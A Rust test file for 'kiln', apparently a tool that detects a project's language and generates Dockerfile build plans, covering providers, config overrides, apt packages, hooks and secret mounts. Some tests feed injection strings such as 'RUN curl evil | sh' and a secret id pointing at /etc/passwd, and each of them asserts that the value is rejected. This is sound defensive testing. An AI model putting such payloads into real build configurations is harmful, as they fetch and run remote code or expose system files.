use kiln::config::KilnConfig;
use kiln::detect::{detect, detect_and_plan, detect_and_plan_with, AppContext};
use kiln::dockerfile::generate;
use kiln::overrides::BuildOverrides;
use kiln::plan::EnvMap;
use kiln::project::{DirListing, ProjectFile, ProjectFiles};
use kiln::Error;

fn project(files: &[(&str, &str)]) -> ProjectFiles {
    let entries = files.iter().filter(|(p, _)| !p.contains('/')).map(|(p, _)| p.to_string()).collect();
    ProjectFiles {
        root: "/tmp/project".to_string(),
        exists: true,
        files: files
            .iter()
            .map(|(p, c)| ProjectFile { path: p.to_string(), content: Some(c.to_string()) })
            .collect(),
        listings: vec![DirListing { dir: ".".to_string(), entries }],
    }
}

fn go_project() -> ProjectFiles {
    project(&[("go.mod", "module example.com/app\n")])
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn config_forces_provider_over_detection() {
    let p = project(&[("go.mod", "module example.com/app\n"), ("package.json", r#"{"name":"t","main":"index.js"}"#)]);
    let config = KilnConfig { provider: Some("node".to_string()), ..Default::default() };
    let plan = detect_and_plan(p, Some(config)).unwrap();
    assert_eq!(plan.provider, "node");
}

#[test]
fn config_applies_port_and_env() {
    let mut env = EnvMap::new();
    env.insert("LOG_LEVEL".to_string(), "debug".to_string());
    let config = KilnConfig { port: Some(9000), env, ..Default::default() };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    assert_eq!(plan.port, Some(9000));
    assert_eq!(plan.env.get("LOG_LEVEL").map(String::as_str), Some("debug"));
}

#[test]
fn unknown_configured_provider_errors() {
    let config = KilnConfig { provider: Some("cobol".to_string()), ..Default::default() };
    match detect_and_plan(go_project(), Some(config)) {
        Err(Error::Provider(m)) => assert_eq!(m, "unknown provider: cobol"),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn config_installs_build_and_deploy_apt_packages() {
    let config = KilnConfig {
        build_apt_packages: strings(&["libpq-dev", "pkg-config"]),
        deploy_apt_packages: strings(&["ca-certificates"]),
        ..Default::default()
    };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    let build_cmd = &plan.stages.first().unwrap().commands[0].run;
    assert!(build_cmd.contains("apt-get install -y --no-install-recommends libpq-dev pkg-config"), "{build_cmd}");
    let deploy_cmd = &plan.stages.last().unwrap().commands[0].run;
    assert!(deploy_cmd.contains("apt-get install -y --no-install-recommends ca-certificates"), "{deploy_cmd}");
}

#[test]
fn apt_install_precedes_the_providers_own_build_command() {
    let config = KilnConfig { build_apt_packages: strings(&["gcc"]), ..Default::default() };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    let cmds = &plan.stages.first().unwrap().commands;
    assert!(cmds[0].run.contains("apt-get install"));
    assert!(cmds.iter().skip(1).any(|c| c.run.contains("go build")));
}

#[test]
fn config_overrides_base_images_and_paths() {
    let config = KilnConfig {
        build_image: Some("golang:1.23-bookworm".to_string()),
        runtime_image: Some("gcr.io/distroless/base-debian12".to_string()),
        paths: strings(&["/opt/bin", "/usr/local/app/bin"]),
        ..Default::default()
    };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    assert_eq!(plan.stages.first().unwrap().base_image, "golang:1.23-bookworm");
    assert_eq!(plan.stages.last().unwrap().base_image, "gcr.io/distroless/base-debian12");
    assert_eq!(plan.paths, vec!["/opt/bin", "/usr/local/app/bin"]);
    let dockerfile = generate(&plan);
    assert!(dockerfile.contains("ENV PATH=\"/opt/bin:/usr/local/app/bin:$PATH\""), "{dockerfile}");
}

#[test]
fn malicious_base_image_is_rejected() {
    let config = KilnConfig { runtime_image: Some("img\nRUN curl evil | sh".to_string()), ..Default::default() };
    assert!(detect_and_plan(go_project(), Some(config)).is_err());
}

#[test]
fn build_hooks_run_before_and_after_provider_steps() {
    let config = KilnConfig {
        pre_build: strings(&["echo pre", "protoc gen"]),
        post_build: strings(&["strip /bin/app"]),
        ..Default::default()
    };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    let runs: Vec<&str> = plan.stages.first().unwrap().commands.iter().map(|c| c.run.as_str()).collect();
    let pre = runs.iter().position(|r| r.contains("echo pre")).unwrap();
    let build = runs.iter().position(|r| r.contains("go build")).unwrap();
    let post = runs.iter().position(|r| r.contains("strip /bin/app")).unwrap();
    assert!(pre < build, "pre_build runs before the provider build: {runs:?}");
    assert!(build < post, "post_build runs after the provider build: {runs:?}");
    assert!(runs.iter().position(|r| r.contains("protoc gen")).unwrap() > pre);
}

#[test]
fn build_hook_with_newline_is_rejected() {
    let config = KilnConfig { pre_build: strings(&["echo a\nRUN curl evil | sh"]), ..Default::default() };
    assert!(detect_and_plan(go_project(), Some(config)).is_err());
}

#[test]
fn config_mounts_secrets_on_the_build_stage() {
    let config = KilnConfig { secrets: strings(&["NPM_TOKEN"]), ..Default::default() };
    let plan = detect_and_plan(go_project(), Some(config)).unwrap();
    assert_eq!(plan.secrets, vec!["NPM_TOKEN"]);
    let dockerfile = generate(&plan);
    assert!(dockerfile.contains("--mount=type=secret,id=NPM_TOKEN"), "{dockerfile}");
    let secret_lines = dockerfile.matches("id=NPM_TOKEN").count();
    assert_eq!(secret_lines, 1, "secret mounts only build-stage commands: {dockerfile}");
}

#[test]
fn malicious_secret_id_is_rejected() {
    let config = KilnConfig { secrets: strings(&["a,src=/etc/passwd"]), ..Default::default() };
    assert!(detect_and_plan(go_project(), Some(config)).is_err());
}

#[test]
fn malicious_apt_package_is_rejected() {
    let config = KilnConfig { build_apt_packages: strings(&["ok; curl evil | sh"]), ..Default::default() };
    assert!(detect_and_plan(go_project(), Some(config)).is_err(), "shell metachars in a package must be rejected");
}

#[test]
fn detects_first_matching_provider_in_priority_order() {
    assert_eq!(
        detect(project(&[("package.json", "{}"), ("Cargo.toml", "")])).unwrap().as_deref(),
        Some("rust")
    );
    assert_eq!(detect(project(&[("index.html", "")])).unwrap().as_deref(), Some("static"));
    assert_eq!(detect(project(&[("README.md", "")])).unwrap(), None);
    let missing = ProjectFiles { root: "/nope".to_string(), exists: false, files: vec![], listings: vec![] };
    match detect(missing) {
        Err(Error::ReadFile { path, reason }) => {
            assert_eq!(path, "/nope");
            assert_eq!(reason, "path does not exist");
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn no_provider_detected_names_the_root() {
    match detect_and_plan(project(&[("README.md", "")]), None) {
        Err(Error::NoProviderDetected(root)) => assert_eq!(root, "/tmp/project"),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn flags_win_over_the_config_file_and_hooks_order_with_apt() {
    let config = KilnConfig {
        start_command: Some("/bin/from-config".to_string()),
        port: Some(1),
        pre_build: strings(&["echo pre"]),
        build_apt_packages: strings(&["gcc"]),
        ..Default::default()
    };
    let flags = BuildOverrides { port: Some(2), ..Default::default() };
    let plan = detect_and_plan_with(go_project(), Some(config), flags).unwrap();
    assert_eq!(plan.port, Some(2));
    let runs: Vec<&str> = plan.stages[0].commands.iter().map(|c| c.run.as_str()).collect();
    assert!(runs[0].starts_with("apt-get update"));
    assert_eq!(runs[1], "echo pre");
    assert!(runs[2].contains("go build"));
    assert_eq!(
        runs[0],
        "apt-get update && apt-get install -y --no-install-recommends gcc && rm -rf /var/lib/apt/lists/*"
    );
    assert_eq!(plan.stages[0].commands[0].cache_mounts, vec!["/var/cache/apt".to_string()]);
}

#[test]
fn blank_hook_and_bad_path_entries_are_refused() {
    let config = KilnConfig { post_build: strings(&["   "]), ..Default::default() };
    match detect_and_plan(go_project(), Some(config)) {
        Err(Error::UnsafeValue { field, value }) => {
            assert_eq!(field, "build hook command");
            assert_eq!(value, "   ");
        }
        other => panic!("unexpected {other:?}"),
    }
    let config = KilnConfig { paths: strings(&["/ok", "a:b"]), ..Default::default() };
    match detect_and_plan(go_project(), Some(config)) {
        Err(Error::UnsafeValue { field, value }) => {
            assert_eq!(field, "PATH entry");
            assert_eq!(value, "a:b");
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn app_context_reads_the_snapshot() {
    let ctx = AppContext::new(project(&[("a.txt", "hi"), ("sub/b.csproj", "")])).unwrap();
    assert!(ctx.has_file("a.txt"));
    assert!(!ctx.has_file("nope"));
    assert_eq!(ctx.read_file("a.txt").unwrap(), "hi");
    match ctx.read_file("nope") {
        Err(Error::ReadFile { path, .. }) => assert_eq!(path, "/tmp/project/nope"),
        other => panic!("unexpected {other:?}"),
    }
    assert_eq!(ctx.list_files("."), vec!["a.txt".to_string()]);
    assert!(ctx.has_file_with_extension("txt"));
    assert!(!ctx.has_file_with_extension("csproj"));
}

#[test]
fn detect_names_the_provider_that_plans() {
    for files in [
        vec![("go.mod", "module example.com/svc\n")],
        vec![("package.json", "{}"), ("index.html", "")],
        vec![("Gemfile", ""), ("requirements.txt", "")],
        vec![("main.sh", "")],
    ] {
        let name = detect(project(&files)).unwrap().unwrap();
        let plan = detect_and_plan(project(&files), None).unwrap();
        assert_eq!(plan.provider, name);
    }
}

#[test]
fn build_hooks_go_into_the_stage_named_build() {
    let p = project(&[("package.json", r#"{"name":"t","scripts":{"start":"node server.js","build":"tsc"}}"#)]);
    let config = KilnConfig { pre_build: strings(&["echo pre"]), post_build: strings(&["echo post"]), ..Default::default() };
    let plan = detect_and_plan(p, Some(config)).unwrap();
    assert_eq!(plan.stages[0].name, "deps");
    let b = plan.build_stage_index();
    assert_eq!(plan.stages[b].name, "build");
    let runs: Vec<&str> = plan.stages[b].commands.iter().map(|c| c.run.as_str()).collect();
    assert_eq!(runs.first().copied(), Some("echo pre"));
    assert_eq!(runs.last().copied(), Some("echo post"));
    assert!(plan.stages[0].commands.iter().all(|c| !c.run.contains("echo")));
}

#[test]
fn extension_search_skips_directories() {
    let p = ProjectFiles {
        root: "/tmp/project".to_string(),
        exists: true,
        files: vec![],
        listings: vec![DirListing { dir: ".".to_string(), entries: vec!["x.csproj".to_string()] }],
    };
    let ctx = AppContext::new(p).unwrap();
    assert!(!ctx.has_file_with_extension("csproj"));
}

#[test]
fn no_detecting_provider_and_unknown_name_give_their_errors() {
    let empty = project(&[("notes.md", "")]);
    assert!(matches!(detect_and_plan(empty, None), Err(Error::NoProviderDetected(_))));
    let config = KilnConfig { provider: Some("go".to_string()), ..Default::default() };
    assert_eq!(detect_and_plan(go_project(), Some(config)).unwrap().provider, "go");
}
